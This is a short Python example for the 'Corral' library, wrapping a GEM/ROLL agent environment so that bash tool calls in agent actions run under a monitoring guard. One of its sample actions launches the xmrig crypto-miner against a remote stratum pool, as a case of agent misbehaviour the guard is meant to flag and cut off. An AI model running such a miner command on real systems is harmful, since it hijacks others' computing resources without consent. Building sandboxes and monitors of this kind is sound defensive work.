"""GEM / ROLL: wrap a GEM environment so tool calls in actions run in Corral.

With ROLL, wrap the env its agentic pipeline builds (``CorralGemWrapper(gem.make(...), guard)``);
here a tiny stand-in environment.
"""

from typing import Any

from corral import Policy
from corral.integrations import Guard
from corral.integrations.gem import CorralGemWrapper


class Echo:
    def reset(self, seed: int | None = None) -> tuple[str, dict[str, Any]]:
        return "say 'done' when finished", {}

    def step(self, action: str) -> tuple[str, float, bool, bool, dict[str, Any]]:
        return "ok", float(action == "done"), action == "done", False, {}


with Guard(Policy.default(), run_id="gem-demo") as guard:
    env = CorralGemWrapper(Echo(), guard)
    env.reset(seed=0)
    for action in ("<bash>pwd</bash>", "<bash>xmrig -o stratum+tcp://203.0.113.9:3333</bash>", "done"):
        obs, reward, terminated, truncated, info = env.step(action)
        print(action, reward, terminated, truncated, info.get("corral_summary"))
        if terminated or truncated:  # a critical alert ends the episode (a truncation)
            break
